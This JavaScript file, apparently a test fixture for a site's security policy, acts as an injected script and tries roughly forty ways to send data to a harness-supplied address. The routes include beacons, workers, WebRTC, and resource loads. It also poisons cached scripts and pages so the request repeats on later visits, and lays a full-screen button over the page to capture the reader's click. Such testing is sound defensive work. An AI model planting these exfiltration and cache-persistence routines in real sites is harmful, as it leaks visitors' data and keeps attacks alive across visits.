/* A script that got into a site somehow, and tries every way to hand over answers. */

/* As a worker of any kind it asks for what its own address names. */
const wanted = new URL(self.location.href).searchParams.get("ask");
if (wanted && !self.document) fetch(wanted, { mode: "no-cors" });

const ASK = (address) => `fetch("${address}", { mode: "no-cors" }).catch(() => {});`;

function add(tag, attributes, to = document.body) {
  const element = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
  to.append(element);
  return element;
}

function blobOf(address) {
  return URL.createObjectURL(new Blob([ASK(address)], { type: "text/javascript" }));
}

function own(address) {
  return `${document.currentScriptAddress}?ask=${encodeURIComponent(address)}`;
}

async function connect(iceServer) {
  const connection = new RTCPeerConnection({ iceServers: [iceServer] });
  connection.createDataChannel("answers");
  await connection.setLocalDescription(await connection.createOffer());
}

async function rewrite(pattern, text, type) {
  for (const name of await caches.keys()) {
    const cache = await caches.open(name);
    for (const request of await cache.keys())
      if (pattern.test(request.url))
        await cache.put(request, new Response(text, { headers: { "content-type": type } }));
  }
}

/* By name; each gets an address whose last part is that name. */
const WAYS = {
  // In the background
  fetch: (to) => fetch(to, { mode: "no-cors" }),
  xhr: (to) => {
    const request = new XMLHttpRequest();
    request.open("POST", to);
    request.send("answers");
  },
  beacon: (to) => navigator.sendBeacon(to, "answers"),
  ping: (to) => add("a", { href: "#pinged", ping: to }).click(),
  events: (to) => new EventSource(to),
  socket: (to) => new WebSocket(to.replace("http", "ws")),
  image: (to) => add("img", { src: to }),
  icon: (to) => add("link", { rel: "icon", href: to }, document.head),
  style: (to) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`html { background: url("${to}") }`);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
  },
  "style-sheet": (to) => add("link", { rel: "stylesheet", href: to }, document.head),
  font: (to) => new FontFace("Other", `url(${to})`).load(),
  video: (to) => add("video", { src: to }),
  object: (to) => add("object", { data: to, type: "text/html" }),
  frame: (to) => add("iframe", { src: to }),
  "inherited-frame": (to) => add("iframe", {}).contentWindow.fetch(to, { mode: "no-cors" }),
  "form-in-frame": (to) => {
    add("iframe", { name: "sink" });
    add("form", { action: to, method: "post", target: "sink" }).submit();
  },
  script: (to) => add("script", { src: to }),
  import: (to) => import(to),
  prefetch: (to) => add("link", { rel: "prefetch", href: to }, document.head),
  preload: (to) => add("link", { rel: "preload", as: "image", href: to }, document.head),
  "blob-worker": (to) => new Worker(blobOf(to)),
  "blob-shared-worker": (to) => new SharedWorker(blobOf(to)),
  "file-worker": (to) => new Worker(own(to)),
  "file-module-worker": (to) => new Worker(own(to), { type: "module" }),
  "file-shared-worker": (to) => new SharedWorker(own(to)),
  "service-worker": (to) => navigator.serviceWorker.register(own(to)),
  stun: (to, port) => connect({ urls: `stun:${port}` }),
  turn: (to, port) =>
    connect({ urls: `turn:${port}?transport=tcp`, username: "answers", credential: "x" }),

  // On another visit
  "kept-search": (to) => rewrite(/workers\/search/, ASK(to), "text/javascript"),
  "kept-script": (to) => rewrite(/mirrormark-\w+\.js/, ASK(to), "text/javascript"),
  "kept-page": (to) =>
    rewrite(/\/\?__WB/, `<!doctype html><script>${ASK(to)}</script>`, "text/html"),

  // In sight
  location: (to) => (location.href = to),
  refresh: (to) => add("meta", { "http-equiv": "refresh", content: `0;url=${to}` }, document.head),
  link: (to) => add("a", { href: to }).click(),
  form: (to) => add("form", { action: to, method: "get" }).submit(),
  window: (to) => window.open(to),
  "file-in-window": (to) => {
    const opened = window.open(new URL("../sitemap.xml", document.currentScriptAddress));
    const timer = setInterval(() => {
      if (opened.location.href === "about:blank") return;
      clearInterval(timer);
      opened.fetch(to, { mode: "no-cors" });
    }, 100);
  },
};

if (self.document) {
  document.currentScriptAddress = document.currentScript.src;
  // A script of the page's own, and a click of the reader's: what a test evaluates may do more.
  addEventListener("try", ({ detail: { name, to, port, done } }) => {
    const attempt = async () => {
      try {
        await WAYS[name](to, port);
      } catch {
        // That it failed shows in what did not happen.
      }
      done();
    };
    setTimeout(attempt);
  });
  addEventListener("try-by-click", ({ detail: { name, to } }) => {
    const button = add("button", { class: "way-out" });
    button.textContent = "Go on";
    Object.assign(button.style, { position: "fixed", inset: "0", zIndex: "99" });
    button.onclick = () => WAYS[name](to);
  });
}
